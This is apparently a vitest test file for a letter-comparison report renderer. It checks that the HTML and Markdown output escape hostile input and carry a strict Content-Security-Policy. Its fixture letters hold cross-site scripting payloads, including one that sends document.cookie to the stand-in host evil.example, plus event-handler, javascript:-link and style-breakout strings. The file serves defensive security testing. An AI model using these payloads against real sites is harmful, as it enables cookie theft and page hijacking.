import { describe, expect, it } from 'vitest';
import type { CompareResult } from '../../src/core/contract';
import { describe as anchor } from '../../src/core/annotations/anchor';
import { EXPORT_CSP, esc, renderReportBody, renderReportHtml } from '../../src/core/report/html';
import { compareMarkdown, reportMarkdown } from '../../src/core/report/markdown';
import { aimBody, buildReportModel, documentSubject, plainText, STANCE_INFO } from '../../src/core/report/model';
import { locate, sampleComparison, sampleTexts } from './report-fixture';

// A letter written to attack the report: every kind of active content a Markdown file can carry.
const HOSTILE_LETTER = `---
title: "Pay <script>alert('title')</script> review"
---

# Pay review

**Close the <script>alert(1)</script> offices** – move staff <img src=x onerror="alert(2)"> to the hub.

**Change <iframe src="https://evil.example/frame"></iframe> rotas** – see [the plan](javascript:alert(3)) and ![chart](https://evil.example/track.png?u=1).

**Style </style><style>body{display:none}</style> break** – <a href="https://evil.example">link</a> &lt;b&gt; \`code\` "quotes" 'single' \`tick\`.

This was agreed with the unions <svg onload=alert(4)>.
`;
const HOSTILE_RESPONSE = `We support closing offices <script>document.location='https://evil.example/?c='+document.cookie</script>.

<object data="https://evil.example/x.swf"></object> We cannot accept the rotas.

Our own point: <link rel=stylesheet href="https://evil.example/x.css"> <meta http-equiv="refresh" content="0;url=https://evil.example">.
`;

function hostileResult(): CompareResult {
  const l = HOSTILE_LETTER;
  const r = HOSTILE_RESPONSE;
  const aim = (id: string, start: string, title: string) => {
    const s = l.indexOf(start);
    const e = l.indexOf('\n', s);
    return { id, title, format: 'lead-in' as const, ...locate(l, l.slice(s, e)) };
  };
  return {
    version: 1,
    letter: {
      path: 'letters/<img src=x onerror=alert(5)>.md',
      aims: [
        aim('a1', '**Close', 'Close the <script>alert(1)</script> offices'),
        aim('a2', '**Change', 'Change <iframe src="https://evil.example/frame"></iframe> rotas'),
        aim('a3', '**Style', 'Style </style><style>body{display:none}</style> break'),
      ],
      claims: [
        {
          ...locate(l, 'This was agreed with the unions <svg onload=alert(4)>.'),
          rung: 'agreed',
          status: 'disputed',
          message: 'Claimed as agreed <b onmouseover=alert(6)>x</b>; the response disputes it.',
          phrase: 'agreed with the unions',
          hedged: false,
          evidence: [{ kind: 'log', description: 'Log row <script>alert(7)</script>', rung: 'informed' }],
          disputedBy: locate(r, '<object data="https://evil.example/x.swf"></object> We cannot accept the rotas.'),
        },
      ],
    },
    response: {
      path: 'response "quoted" \'path\'.md',
      claims: [],
      points: [{ ...locate(r, 'Our own point: <link rel=stylesheet href="https://evil.example/x.css"> <meta http-equiv="refresh" content="0;url=https://evil.example">.'), paragraph: 3 }],
    },
    alignments: [
      {
        aim: 'a1',
        stance: 'support',
        passages: [{ ...locate(r, "We support closing offices <script>document.location='https://evil.example/?c='+document.cookie</script>."), score: 0.8, reasons: ['lexical'], paragraph: 1 }],
        cues: [{ ...locate(r, 'We support'), phrase: 'We support', stance: 'support' }],
      },
      { aim: 'a2', stance: 'unaddressed', passages: [], cues: [] },
      {
        aim: 'a3',
        stance: 'oppose',
        passages: [{ ...locate(r, '<object data="https://evil.example/x.swf"></object> We cannot accept the rotas.'), score: 0.6, reasons: ['lexical'], paragraph: 2 }],
        cues: [{ ...locate(r, 'We cannot accept'), phrase: 'We cannot accept', stance: 'oppose' }],
      },
    ],
  };
}

function hostileModel() {
  const note = HOSTILE_LETTER.indexOf('<img src=x');
  return buildReportModel(hostileResult(), {
    texts: { letter: HOSTILE_LETTER, response: HOSTILE_RESPONSE },
    annotations: [
      {
        doc: 'letter',
        annotation: {
          id: 'urn:uuid:1',
          source: 'letter.md',
          created: '2026-05-01T09:00:00Z',
          modified: '2026-05-01T09:00:00Z',
          status: 'open',
          target: anchor(HOSTILE_LETTER, note, note + 30),
          comments: [{ id: 'c1', author: '<script>alert(8)</script>', body: 'Note </style><script>alert(9)</script> <img src=x onerror=alert(10)>', created: '2026-05-01T09:00:00Z' }],
        },
      },
    ],
  });
}

/** Every opening tag name in the HTML. */
function tags(html: string): string[] {
  return [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)/g)].map((m) => m[1].toLowerCase());
}

/** Every attribute name in the HTML's tags, read as a browser would (the renderer always double-quotes values). */
function attributes(html: string): string[] {
  const out: string[] = [];
  for (const tag of html.matchAll(/<[a-zA-Z][a-zA-Z0-9-]*/g)) {
    const attr = /\s+([a-zA-Z_:][-a-zA-Z0-9_:.]*)(?:="[^"]*")?/y;
    attr.lastIndex = tag.index! + tag[0].length;
    let m: RegExpExecArray | null;
    let end = attr.lastIndex;
    while ((m = attr.exec(html))) {
      out.push(m[1].toLowerCase());
      end = attr.lastIndex;
    }
    // After the attributes comes the end of the tag, or the renderer produced something a browser would misread.
    expect(html.slice(end, end + 2)).toMatch(/^\/?>/);
  }
  return out;
}

const ALLOWED_TAGS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'main', 'header', 'p', 'span', 'h1', 'h2', 'h3', 'div', 'ul', 'ol', 'li', 'strong', 'svg', 'rect', 'path', 'circle', 'section', 'blockquote', 'figure', 'figcaption', 'mark', 'article', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'footer']);

describe('the HTML report escapes everything from the documents', () => {
  const html = renderReportHtml(hostileModel());

  it('emits no element or attribute that came from a document', () => {
    const unknown = tags(html).filter((t) => !ALLOWED_TAGS.has(t));
    expect(unknown).toEqual([]);
    for (const bad of ['script', 'img', 'iframe', 'object', 'link', 'a', 'embed', 'form', 'input', 'base']) expect(tags(html)).not.toContain(bad);
    const attrs = new Set(attributes(html));
    expect([...attrs].filter((a) => ['src', 'href', 'onerror', 'onload', 'onmouseover', 'data', 'action', 'style'].includes(a))).toEqual([]);
    expect(html).not.toMatch(/javascript:/i);
  });

  it('closes its one stylesheet exactly once, so a </style> in a letter cannot end it', () => {
    expect(html.match(/<style/g)).toHaveLength(1);
    expect(html.match(/<\/style/gi)).toHaveLength(1);
    expect(html).toContain('Style &lt;/style&gt;&lt;style&gt;body{display:none}&lt;/style&gt; break');
  });

  it('shows the hostile text as text', () => {
    expect(html).toContain('Close the &lt;script&gt;alert(1)&lt;/script&gt; offices');
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(2)&quot;&gt;');
    expect(html).toContain('Change &lt;iframe src=&quot;https://evil.example/frame&quot;&gt;&lt;/iframe&gt; rotas');
    // Markdown links and images are shown as their text only: the targets never reach the page.
    expect(html).toContain('see the plan and chart');
    expect(html).not.toContain('evil.example/track.png');
    expect(html).not.toMatch(/javascript:alert\(3\)/);
    expect(html).toContain('&lt;object data=&quot;https://evil.example/x.swf&quot;&gt;');
    expect(html).toContain('&lt;meta http-equiv=&quot;refresh&quot;');
    expect(html).toContain('Note &lt;/style&gt;&lt;script&gt;alert(9)&lt;/script&gt;');
    expect(html).toContain('&lt;script&gt;alert(8)&lt;/script&gt;');
    expect(html).toContain('letters/&lt;img src=x onerror=alert(5)&gt;.md');
    expect(html).toContain('response &quot;quoted&quot; &#39;path&#39;.md');
    expect(html).toContain('Claimed as agreed &lt;b onmouseover=alert(6)&gt;x&lt;/b&gt;');
    expect(html).toContain('Log row &lt;script&gt;alert(7)&lt;/script&gt;');
  });

  it('carries a Content-Security-Policy that forbids scripts and every load', () => {
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html);
    expect(meta).not.toBeNull();
    const csp = meta![1].replace(/&#39;/g, "'");
    expect(csp).toBe(EXPORT_CSP);
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).toMatch(/script-src 'none'/);
    expect(csp).not.toMatch(/https?:|\*/);
    // The policy comes first in <head>, before anything it governs.
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<style'));
    expect(html).toContain('<meta name="referrer" content="no-referrer">');
  });

  it('escapes the five HTML-significant characters and the backtick', () => {
    expect(esc(`<a href="x" onclick='y'>&\`</a>`)).toBe('&lt;a href=&quot;x&quot; onclick=&#39;y&#39;&gt;&amp;&#96;&lt;/a&gt;');
  });
});

describe('the webview variant', () => {
  const html = renderReportHtml(hostileModel(), { mode: 'webview', cspSource: 'vscode-webview://abc', nonce: 'N0nce123' });

  it('has the strict CSP with a nonce, and its only script and style carry the nonce', () => {
    expect(html).toContain(`content="default-src &#39;none&#39;; style-src vscode-webview://abc &#39;nonce-N0nce123&#39;; script-src &#39;nonce-N0nce123&#39;"`);
    expect(html.match(/<script/g)).toHaveLength(1);
    expect(html).toContain('<script nonce="N0nce123">');
    expect(html).toContain('<style nonce="N0nce123">');
    expect(tags(html).filter((t) => !ALLOWED_TAGS.has(t) && t !== 'script' && t !== 'button')).toEqual([]);
  });

  it('makes items revealable by role and offsets, never by anything from the text', () => {
    const model = buildReportModel(sampleComparison(), { texts: sampleTexts() });
    const body = renderReportBody(model, { mode: 'webview', cspSource: 'x', nonce: 'n' });
    const first = model.aims[0];
    expect(body).toContain(`data-doc="letter" data-start="${first.location.start}" data-end="${first.location.end}"`);
    const reveals = [...body.matchAll(/data-doc="([^"]*)"/g)].map((m) => m[1]);
    expect(new Set(reveals)).toEqual(new Set(['letter', 'response']));
  });
});

describe('the report model', () => {
  const model = buildReportModel(sampleComparison(), { texts: sampleTexts() });

  it('puts unanswered aims first, then the rest in the letter’s order', () => {
    expect(model.aims.map((a) => [a.number, a.stance])).toEqual([
      [4, 'unaddressed'],
      [1, 'concern'],
      [2, 'qualified'],
      [3, 'support'],
      [5, 'oppose'],
    ]);
    const html = renderReportHtml(model);
    const order = [...html.matchAll(/class="aim stance-([a-z]+)"/g)].map((m) => m[1]);
    expect(order).toEqual(['unaddressed', 'concern', 'qualified', 'support', 'oppose']);
  });

  it('shows each stance as a colour class, a shape and a word', () => {
    const html = renderReportHtml(model);
    for (const st of ['support', 'qualified', 'concern', 'oppose', 'unaddressed'] as const) {
      expect(html).toContain(`<span class="badge stance-${st} "`);
      expect(html).toMatch(new RegExp(`class="icon i-${st}"[^]*?<span class="word">${STANCE_INFO[st].label}</span>`));
    }
  });

  it('counts stances and flagged claims, and orders flagged claims by seriousness', () => {
    expect(model.summary).toMatchObject({ aims: 5, unanswered: 1, flaggedClaims: 2, claims: 4, points: 1 });
    expect(model.summary.byStance).toEqual({ unaddressed: 1, oppose: 1, concern: 1, qualified: 1, support: 1 });
    expect(model.flaggedClaims.map((c) => c.status)).toEqual(['disputed', 'unevidenced']);
    expect(model.otherClaims.map((c) => c.status)).toEqual(['negated', 'future']);
    expect(model.flaggedClaims[0].disputedBy?.location?.doc).toBe('response');
  });

  it('marks the cue phrases inside the passages, keeping all the passage’s words', () => {
    const oppose = model.aims.find((a) => a.stance === 'oppose')!;
    const runs = oppose.passages[0].runs;
    expect(runs.filter((r) => r.cue).map((r) => [r.text, r.cue])).toEqual([
      ['wholly unrealistic', 'oppose'],
      ['We cannot accept', 'oppose'],
    ]);
    expect(runs.map((r) => r.text).join('')).toBe(plainText(oppose.passages[0].text));
  });

  it('shows Markdown as a reader sees it: no markup, no link targets', () => {
    expect(plainText('**Bold** and _em_ and [a link](https://x.example) and ![img](https://x.example/i.png) `code`')).toBe('Bold and em and a link and img code');
    expect(plainText('- item one\n- item two\n> quoted\n## Heading')).toBe('item one item two quoted Heading');
    expect(plainText('| Aim | Detail |')).toBe('Aim · Detail');
    expect(plainText('a <!-- counterpoint-disable-next-line unanswered-aim -- fine --> b')).toBe('a b');
    expect(plainText('snake_case_name stays')).toBe('snake_case_name stays');
    expect(aimBody('**Consolidate court hubs** – bring the teams together.', 'Consolidate court hubs')).toBe('bring the teams together.');
    expect(documentSubject(sampleTexts().letter)).toBe('Court Services Redesign: next steps');
    expect(documentSubject('---\ntitle: "Estates review"\n---\n# Other')).toBe('Estates review');
  });

  it('keeps orphaned notes, after the attached ones, and re-attaches moved ones', () => {
    const texts = sampleTexts();
    const quote = 'single allocation desk in each hub';
    const at = texts.letter.indexOf(quote);
    const moved = { ...texts, letter: 'An added opening line.\n\n' + texts.letter };
    const m = buildReportModel(sampleComparison(), {
      texts: moved,
      annotations: [
        { doc: 'letter', annotation: { id: 'gone', source: 'letter.md', created: 'x', modified: 'x', status: 'open', target: anchor('Old text that was removed entirely from it.', 4, 30), comments: [{ id: '1', author: 'A', body: 'Gone', created: 'x' }] } },
        { doc: 'letter', annotation: { id: 'moved', source: 'letter.md', created: 'x', modified: 'x', status: 'resolved', target: anchor(texts.letter, at, at + quote.length), comments: [{ id: '1', author: 'A', body: 'Moved', created: 'x' }] } },
      ],
    });
    expect(m.annotations.map((a) => [a.id, a.orphaned])).toEqual([
      ['moved', false],
      ['gone', true],
    ]);
    expect(m.annotations[0].location?.start).toBe(moved.letter.indexOf(quote));
    expect(m.annotations[0].quote).toBe(quote);
    expect(m.summary).toMatchObject({ annotations: 2, orphanedAnnotations: 1 });
    const html = renderReportHtml(m);
    expect(html).toContain('[orphaned]');
    expect(reportMarkdown(m)).toContain('\\[orphaned\\] Letter: “text that was removed enti” — Gone (A)');
  });
});

describe('the Markdown report', () => {
  it('is the same report: compareMarkdown renders the shared model', () => {
    const result = sampleComparison();
    expect(compareMarkdown(result)).toBe(reportMarkdown(buildReportModel(result)));
    const md = compareMarkdown(result, { texts: sampleTexts() });
    expect(md.split('\n')[0]).toBe('# Comparison report — Court Services Redesign: next steps');
    const rows = md.split('\n').filter((l) => /^\| \d\. /.test(l));
    expect(rows.map((r) => /^\| (\d)\./.exec(r)![1])).toEqual(['4', '1', '2', '3', '5']);
    expect(rows[0]).toContain('○ **Unanswered**');
  });

  it('escapes document text so that nothing becomes markup, a link or an image', () => {
    const md = reportMarkdown(hostileModel());
    expect(md).not.toMatch(/(?<!\\)<(?!br>)[a-zA-Z/!?]/);
    expect(md).not.toMatch(/!\[/);
    expect(md).not.toMatch(/\]\(/);
    expect(md).toContain('Close the \\<script\\>alert(1)\\</script\\> offices');
    // A table cell cannot be broken out of.
    for (const line of md.split('\n').filter((l) => l.startsWith('| '))) expect(line.split(/(?<!\\)\|/).length).toBeGreaterThanOrEqual(4);
  });
});
